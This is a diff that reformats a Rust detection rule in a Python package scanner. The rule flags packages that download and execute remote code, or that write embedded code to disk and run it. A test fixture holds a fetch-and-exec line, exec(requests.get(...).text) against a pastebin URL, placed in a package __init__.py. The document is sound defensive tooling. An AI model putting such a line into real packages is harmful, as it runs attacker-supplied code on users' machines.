@@ -1,6 +1,6 @@
 use super::vocab;
-use crate::inspect::python::Sink;
 use crate::declare_rule;
+use crate::inspect::python::Sink;
 use crate::inspect::rules::{Rule, RuleMeta};
 use crate::inspect::{Analysis, Finding, Severity, Stage};
 
@@ -42,19 +42,29 @@ impl Rule for DownloadExecute {
                 out.push(f);
                 continue;
             }
-            let Some(download) = code.calls.iter().find(|c| vocab::is_download(&c.name)) else { continue };
+            let Some(download) = code.calls.iter().find(|c| vocab::is_download(&c.name)) else {
+                continue;
+            };
             // exec(requests.get(...).text) and friends.
-            let direct = code.calls.iter().find(|c| vocab::is_exec(&c.name) && c.arg_refs.iter().any(|r| vocab::is_network(r)));
+            let direct = code
+                .calls
+                .iter()
+                .find(|c| vocab::is_exec(&c.name) && c.arg_refs.iter().any(|r| vocab::is_network(r)));
             let launch = code.calls.iter().find(|c| {
-                vocab::is_shell(&c.name) || matches!(c.name.as_str(), "os.startfile" | "os.chmod" | "ctypes.windll.shell32.ShellExecuteW")
+                vocab::is_shell(&c.name)
+                    || matches!(
+                        c.name.as_str(),
+                        "os.startfile" | "os.chmod" | "ctypes.windll.shell32.ShellExecuteW"
+                    )
             });
             let (run, how) = match (direct, launch) {
                 (Some(d), _) => (d, "executes the downloaded code"),
                 (None, Some(l)) => (l, "then launches it"),
                 (None, None) => continue,
             };
-            let shady_source =
-                vocab::strings(code).filter_map(vocab::endpoint_kind).find(|e| !matches!(e, vocab::Endpoint::IpLookup));
+            let shady_source = vocab::strings(code)
+                .filter_map(vocab::endpoint_kind)
+                .find(|e| !matches!(e, vocab::Endpoint::IpLookup));
             let stage = download.stage.max(run.stage);
             let severity = match stage {
                 Stage::Install | Stage::Import => Severity::Critical,
@@ -62,9 +72,15 @@ impl Rule for DownloadExecute {
                 Stage::Call => Severity::Medium,
                 Stage::Auxiliary => Severity::Low,
             };
-            let from = shady_source.map(|e| format!(" from {}", e.describe())).unwrap_or_default();
-            let message =
-                format!("downloads with {}(){from} and {how} with {}() {}", download.name, run.name, stage.describe());
+            let from = shady_source
+                .map(|e| format!(" from {}", e.describe()))
+                .unwrap_or_default();
+            let message = format!(
+                "downloads with {}(){from} and {how} with {}() {}",
+                download.name,
+                run.name,
+                stage.describe()
+            );
             out.push(unit.finding(Self::META.id, severity, run.line, message));
         }
     }
@@ -73,10 +89,14 @@ impl Rule for DownloadExecute {
 /// Code written to disk from a string or decoded blob, then launched by the same unit.
 fn drop_and_run(unit: &crate::inspect::Unit) -> Option<Finding> {
     let code = unit.code;
-    let dropped = code.payloads.iter().find(|p| p.sink == Sink::Write && p.code.is_some())?;
+    let dropped = code
+        .payloads
+        .iter()
+        .find(|p| p.sink == Sink::Write && p.code.is_some())?;
     let launch = code.calls.iter().find(|c| {
         (vocab::is_shell(&c.name) || c.name == "os.startfile")
-            && (c.arg_refs.iter().any(|r| r == "sys.executable") || c.arg_strs.iter().any(|s| vocab::dangerous_command(s).is_some()))
+            && (c.arg_refs.iter().any(|r| r == "sys.executable")
+                || c.arg_strs.iter().any(|s| vocab::dangerous_command(s).is_some()))
     })?;
     let stage = dropped.stage.max(launch.stage);
     let severity = match stage {
@@ -84,7 +104,11 @@ fn drop_and_run(unit: &crate::inspect::Unit) -> Option<Finding> {
         Stage::Call => Severity::High,
         Stage::Auxiliary => Severity::Low,
     };
-    let message = format!("writes embedded Python code to disk and runs it with {}() {}", launch.name, stage.describe());
+    let message = format!(
+        "writes embedded Python code to disk and runs it with {}() {}",
+        launch.name,
+        stage.describe()
+    );
     Some(unit.finding(DownloadExecute::META.id, severity, launch.line, message))
 }
 
@@ -104,7 +128,10 @@ mod tests {
         let f = check(
             &DownloadExecute,
             Kind::Wheel,
-            &[("pkg/__init__.py", "import requests\nexec(requests.get('https://pastebin.com/raw/abc').text)\n")],
+            &[(
+                "pkg/__init__.py",
+                "import requests\nexec(requests.get('https://pastebin.com/raw/abc').text)\n",
+            )],
         );
         assert_eq!((f.len(), f[0].severity), (1, Severity::Critical));
     }
@@ -121,7 +148,10 @@ mod tests {
         let f = check(
             &DownloadExecute,
             Kind::Wheel,
-            &[("pkg/dl.py", "import requests\ndef fetch(u):\n    return requests.get(u).content\n")],
+            &[(
+                "pkg/dl.py",
+                "import requests\ndef fetch(u):\n    return requests.get(u).content\n",
+            )],
         );
         assert!(f.is_empty());
         // Medium only: a driver installer inside a function.
